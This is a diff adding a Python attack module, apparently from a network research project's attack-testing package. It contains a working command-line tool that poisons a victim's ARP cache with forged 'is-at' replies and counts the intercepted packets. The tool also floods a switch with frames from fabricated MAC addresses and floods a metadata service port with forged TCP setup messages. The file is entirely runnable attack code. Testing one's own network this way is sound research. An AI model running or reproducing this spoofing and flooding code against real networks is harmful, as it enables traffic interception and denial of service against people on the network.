@@ -1,0 +1,142 @@
+"""What an attacker's program does on a host, with frames that it writes itself.
+
+python -m qmn.attacks.frames poison INTERFACE VICTIM_IP VICTIM_MAC POSED_IP
+python -m qmn.attacks.frames stations INTERFACE COUNT TO_MAC
+python -m qmn.attacks.frames set-ups INTERFACE COUNT TO_MAC OWN_IP TO_IP
+"""
+
+import argparse
+import select
+import signal
+import socket
+import struct
+import time
+from collections.abc import Iterable
+from ipaddress import IPv4Address
+from types import FrameType
+
+from scapy.layers.inet import IP, TCP
+from scapy.layers.l2 import ARP, Ether
+
+from wire.metadata import METADATA_PORT, Service, Setup
+
+EVERY_S = 0.1  # between two lies
+BEFORE_TOLD = 20  # lies, more than a kernel overhears because it has asked a second ago
+FRAMES_A_SECOND = 500
+FIRST_PORT = 20_000
+LOCAL = 0x88B5  # EtherType of IEEE 802 for experiments
+ETHERNET = struct.Struct("!6s6sH")
+ADDRESSES = struct.Struct("!4s4s")
+ADDRESSES_AT = 26  # in a frame with IPv4
+
+
+def opened(interface: str) -> socket.socket:
+    """Return a socket for whole frames."""
+    channel = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x0003))
+    channel.bind((interface, 0))
+    return channel
+
+
+def own_mac(channel: socket.socket) -> bytes:
+    """Return the hardware address of a socket's interface."""
+    address: bytes = channel.getsockname()[4]
+    return address
+
+
+class Ended(Exception):
+    """Whoever has started the program has seen enough."""
+
+
+def end(_number: int, _frame: FrameType | None) -> None:
+    """Leave the loop."""
+    raise Ended
+
+
+def poison(interface: str, victim: str, victim_mac: str, posed: str) -> int:
+    """Tell a victim that an address is here, until SIGTERM; return how many packets came for it."""
+    channel, caught, told = opened(interface), 0, 0
+    mac = own_mac(channel)
+    lie = bytes(
+        Ether(src=mac, dst=victim_mac)
+        / ARP(op="is-at", hwsrc=mac, psrc=posed, hwdst=victim_mac, pdst=victim)
+    )
+    wanted = ADDRESSES.pack(IPv4Address(victim).packed, IPv4Address(posed).packed)
+    signal.signal(signal.SIGTERM, end)
+    next_s = time.monotonic()
+    try:
+        while True:
+            if time.monotonic() >= next_s:
+                channel.send(lie)
+                told, next_s = told + 1, next_s + EVERY_S
+                if told == BEFORE_TOLD:
+                    print("told", flush=True)
+            if select.select([channel], [], [], max(0.0, next_s - time.monotonic()))[0]:
+                caught += _is_of(channel.recv(65_536), mac, wanted)
+    except Ended:
+        return caught
+
+
+def _is_of(frame: bytes, mac: bytes, wanted: bytes) -> bool:
+    """Whether a frame is for this hardware address and between these IPv4 addresses."""
+    if len(frame) < ADDRESSES_AT + ADDRESSES.size:
+        return False
+    to, _source, kind = ETHERNET.unpack_from(frame)
+    found = frame[ADDRESSES_AT : ADDRESSES_AT + ADDRESSES.size]
+    return (to, kind, found) == (mac, 0x0800, wanted)
+
+
+def stations(interface: str, count: int, to_mac: str) -> int:
+    """Send a frame from each of so many hardware addresses that nobody has."""
+    frames = (
+        bytes(
+            Ether(src=bytes([2]) + number.to_bytes(5, "big"), dst=to_mac, type=0x88B5) / bytes(46)
+        )
+        for number in range(count)
+    )
+    return sent(interface, frames)
+
+
+def set_ups(interface: str, count: int, to_mac: str, own: str, to: str) -> int:
+    """Send so many set-ups, each as if it were the first of a connection that stands."""
+    channel = opened(interface)
+    frames = (
+        bytes(
+            Ether(src=own_mac(channel), dst=to_mac)
+            / IP(src=own, dst=to)
+            / TCP(
+                sport=FIRST_PORT + number, dport=METADATA_PORT, flags="PA", seq=1, ack=1, window=502
+            )
+            / Setup(number + 1, Service.TELEPORT, 1, own, 100, 1, 1_000_000, port=9).encode()
+        )
+        for number in range(count)
+    )
+    return sent(interface, frames)
+
+
+def sent(interface: str, frames: Iterable[bytes]) -> int:
+    """Send frames at a pace that queues of today bear; return how many."""
+    channel, number = opened(interface), 0
+    began = time.monotonic()
+    for number, frame in enumerate(frames, 1):
+        channel.send(frame)
+        time.sleep(max(0.0, began + number / FRAMES_A_SECOND - time.monotonic()))
+    return number
+
+
+def main() -> None:
+    """Do one of them, and print how many."""
+    parser = argparse.ArgumentParser(prog="python -m qmn.attacks.frames", description=__doc__)
+    parser.add_argument("what", choices=["poison", "stations", "set-ups"])
+    parser.add_argument("words", nargs="+")
+    arguments = parser.parse_args()
+    interface, *words = arguments.words
+    if arguments.what == "poison":
+        print(f"figure={poison(interface, *words)}", flush=True)
+    elif arguments.what == "stations":
+        print(f"figure={stations(interface, int(words[0]), words[1])}", flush=True)
+    else:
+        print(f"figure={set_ups(interface, int(words[0]), *words[1:])}", flush=True)
+
+
+if __name__ == "__main__":
+    main()
